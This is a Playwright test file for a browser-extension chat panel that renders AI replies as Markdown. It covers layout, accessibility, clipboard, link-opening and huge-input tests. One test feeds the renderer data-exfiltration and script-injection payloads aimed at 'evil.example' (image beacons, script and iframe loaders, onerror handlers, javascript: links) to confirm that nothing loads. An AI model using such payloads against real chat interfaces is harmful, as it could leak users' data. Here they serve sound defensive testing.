import AxeBuilder from '@axe-core/playwright';
import { gatedReply, textReply } from '../support/provider-replies';
import { expect, test } from './fixture';

const rich = [
  '# A trip to Lisbon',
  '',
  'Three days are **enough** for the *old town*; see [the timetable](https://trains.example/lisbon) or',
  'https://tram.example/28 for `line 28`.',
  '',
  '## Plan',
  '',
  '1. Arrive',
  '   - Drop the bags',
  '   - Eat',
  '2. Walk',
  '',
  '- [x] Book the room',
  '- [ ] Pack',
  '',
  '> Take the early train.',
  '',
  '| Day | Where | Price |',
  '| :-- | :---: | ----: |',
  '| 1 | Alfama | 12 € |',
  '| 2 | Belém, by tram and then along the river as far as it goes | 30 € |',
  '',
  '```python',
  'def total(prices: list[float]) -> float:',
  '    return sum(price * 1.23 for price in prices if price is not None and price > 0)',
  '```',
  '',
  '---',
  '',
  `A long word: ${'Donaudampfschifffahrt'.repeat(8)} [1]`,
].join('\n');

test.describe('an answer in Markdown', () => {
  test('is drawn, within the panel, and accessible in both themes', async ({ panel, provider }) => {
    provider.script(textReply(rich));
    await panel.send('Plan a trip');
    await expect(panel.log).toContainText('Donau');
    await expect(panel.button('Stop')).toBeHidden();
    const { log } = panel;
    await expect(log.getByRole('heading', { name: 'A trip to Lisbon', level: 2 })).toBeVisible();
    await expect(log.getByRole('heading', { name: 'Plan', level: 3 })).toBeVisible();
    await expect(log.getByRole('cell', { name: 'Alfama' })).toBeVisible();
    await expect(log.getByRole('img', { name: 'Done' })).toBeVisible();
    await expect(log.getByRole('link', { name: 'the timetable (trains.example)' })).toBeVisible();
    for (const width of [280, 480]) {
      await panel.page.setViewportSize({ width, height: 900 });
      const overflow = await log.evaluate((element) => element.scrollWidth - element.clientWidth);
      expect(overflow).toBe(0);
      const inside = await panel.page.evaluate(
        () => document.documentElement.scrollWidth <= document.documentElement.clientWidth,
      );
      expect(inside).toBe(true);
    }
    for (const colorScheme of ['light', 'dark'] as const) {
      await panel.page.emulateMedia({ colorScheme, reducedMotion: 'reduce' });
      const { violations } = await new AxeBuilder({ page: panel.page }).analyze();
      expect(violations.map(({ id, nodes }) => [id, nodes[0]?.html])).toEqual([]);
    }
  });

  test('is copied as it was written, and so is its code', async ({
    panel,
    provider,
    extension,
  }) => {
    await extension.context.grantPermissions(['clipboard-read', 'clipboard-write']);
    provider.script(textReply(rich));
    await panel.send('Plan a trip');
    await expect(panel.log).toContainText('Donau');
    await panel.button('Copy code').click();
    await expect(panel.button('Copied code')).toBeVisible();
    const clipboard = () => panel.page.evaluate(() => navigator.clipboard.readText());
    expect(await clipboard()).toMatch(/^def total.*\n {4}return sum.*0\)$/);
    await panel.button('Copy').click();
    await expect(panel.button('Copied')).toBeVisible();
    expect(await clipboard()).toBe(rich);
  });

  test('reaches nobody but the model, whatever is in it', async ({
    panel,
    provider,
    extension,
  }) => {
    const hosts = new Set<string>();
    extension.context.on('request', (request) => {
      const { protocol, host } = new URL(request.url());
      if (protocol.startsWith('http')) hosts.add(host);
    });
    const trap = 'https://evil.example/leak?secret=1';
    const traps = [
      `![](${trap}) ![pixel](<${trap}> "t") [![badge](${trap})](${trap})`,
      `<img src="${trap}" onerror="document.title='owned'"><script src="${trap}"></script>`,
      `<link rel="stylesheet" href="${trap}"><style>@import "${trap}"; p{background:url(${trap})}</style>`,
      `<iframe src="${trap}"></iframe><video poster="${trap}"></video><meta http-equiv=refresh content="0;url=${trap}">`,
      `<svg><image href="${trap}"/></svg><form action="${trap}"><input autofocus onfocus="document.title='owned'">`,
      `| ![](${trap}) |\n|---|\n| <img src=${trap}> |`,
      `\`\`\`${trap}\n<img src=${trap}>\n\`\`\``,
      `[click](javascript:document.title='owned') [ok](${trap})`,
      'These are the last words.',
    ];
    provider.script(textReply(traps.join('\n\n')));
    await panel.send('Show me');
    await expect(panel.log).toContainText('These are the last words.');
    await expect(panel.button('Stop')).toBeHidden();
    await expect(panel.log.getByRole('link', { name: 'ok (evil.example)' })).toBeVisible();
    const loaders = 'img, image, script, style, link, iframe, video, form, input, meta, object';
    expect(await panel.log.locator(loaders).count()).toBe(0);
    const hrefs = await panel.log
      .getByRole('link')
      .evaluateAll((links) => links.map((link) => link.getAttribute('href')));
    expect(new Set(hrefs)).toEqual(new Set([trap]));
    expect(await panel.page.title()).not.toBe('owned');
    // Whatever was going to be loaded would have been asked for before this round trip.
    provider.script(textReply('Nothing happened.'));
    await panel.send('And?');
    await expect(panel.log).toContainText('Nothing happened.');
    expect([...hosts]).toEqual([new URL(provider.url).host]);
  });

  test('opens a link in a tab of its own that cannot look back', async ({
    panel,
    provider,
    extension,
    site,
  }) => {
    provider.script(textReply(`Look at [this](${site}/page).`));
    await panel.send('Where?');
    const opened = extension.context.waitForEvent('page');
    await panel.log.getByRole('link', { name: /^this/ }).click();
    const page = await opened;
    await page.waitForLoadState();
    expect(page.url()).toBe(`${site}/page`);
    expect(await page.evaluate(() => [document.referrer, window.opener === null])).toEqual([
      '',
      true,
    ]);
    await expect(panel.composer).toBeEditable();
  });

  test('shows its words once while it arrives, and keeps what the reader selected at its end', async ({
    panel,
    provider,
  }) => {
    const beginning = `The first words. ${'And some more of them. '.repeat(300)}`;
    const reply = gatedReply(
      textReply('', { chunks: [beginning, 'The last words.'] }),
      'after-first-chunk',
    );
    provider.script(reply);
    await panel.send('Talk');
    await reply.reached;
    const answer = panel.log.getByRole('article', { name: 'Assistant' });
    await expect(answer).toContainText(beginning.trim());
    expect((await answer.innerText()).split('The first words.')).toHaveLength(2);
    await panel.page.evaluate(() => {
      const text = document.querySelector('.answer-text p')?.firstChild;
      if (text) getSelection()?.setBaseAndExtent(text, 4, text, 15);
    });
    reply.release();
    await expect(answer).toContainText('The last words.');
    await expect(panel.button('Stop')).toBeHidden();
    expect((await answer.innerText()).split('The first words.')).toHaveLength(2);
    expect(await panel.page.evaluate(() => getSelection()?.toString())).toBe('first words');
  });
});

test.describe('a huge answer', () => {
  const cases: [string, string][] = [
    ['ten thousand quotes', `${'>'.repeat(10_000)} deep`],
    ['fifty thousand stars', '*a '.repeat(50_000)],
    [
      'a thousand columns',
      `${'|a'.repeat(1_000)}|\n${'|-'.repeat(1_000)}|\n${'|b'.repeat(1_000)}|`,
    ],
    ['half a megabyte of items', '- item\n'.repeat(70_000)],
  ];
  for (const [title, text] of cases) {
    test(`does not hold up the panel: ${title}`, async ({ panel, provider }) => {
      provider.script(textReply('', { chunks: [text, '\n\nThe end.'] }));
      await panel.send('Go on');
      await expect(panel.log).toContainText('The end.', { timeout: 20_000 });
      await expect(panel.button('Stop')).toBeHidden();
      const began = Date.now();
      await panel.composer.fill('Still there?');
      await expect(panel.composer).toHaveValue('Still there?');
      expect(Date.now() - began).toBeLessThan(5_000);
    });
  }
});
